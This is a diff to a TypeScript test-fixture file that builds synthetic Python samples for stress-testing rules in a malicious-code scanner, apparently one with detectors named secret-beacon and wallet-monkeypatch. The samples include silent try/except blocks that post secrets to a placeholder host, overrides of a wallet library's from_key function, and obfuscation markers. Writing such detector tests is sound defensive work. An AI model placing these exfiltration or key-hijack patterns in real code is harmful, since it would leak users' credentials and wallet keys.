@@ -70,7 +70,11 @@ export const SHAPES: Record<string, (n: number) => string> = {
   // secret-beacon looks up blocks and assignments within bounded reach, once per candidate send.
   'silent sends in one try': (n) =>
     `def f():\n    try:\n${lines(n, (i) => `        d${i % 9} = {"ak": ak, "secret": sk}\n        requests.post("https://x.example/k", json=d${i % 9})`)}    except:\n        pass\n`,
-  'silent sends on one line': (n) => `try:\n    ${repeatTo('requests.post(U+"x", json={"secret": s});', n)}\nexcept:\n    pass\n`,
+  'silent sends on one line': (n) =>
+    `try:\n    ${repeatTo('requests.post(U+"x", json={"secret": s});', n)}\nexcept:\n    pass\n`,
+  // wallet-monkeypatch reads every line of a file that imports a key library, and looks up at most 32 hits.
+  'key-library patches in one function': (n) =>
+    `from eth_account import Account\ndef f():\n${lines(n, (i) => `    Account.from_key${i % 9} = g`)}`,
   'chr chains': (n) => `x = ${repeatTo('chr(1)+', n)}chr(1)\n`,
   'obfuscator markers': (n) => repeatTo('# pyarmor_runtime Hyperion Hyperion Hyperion\nf()\n', n),
   'obfuscated names': (n) => lines(n, (i) => `_0x${i.toString(16).padStart(5, '0')} = IlIlIl${i % 7}`),
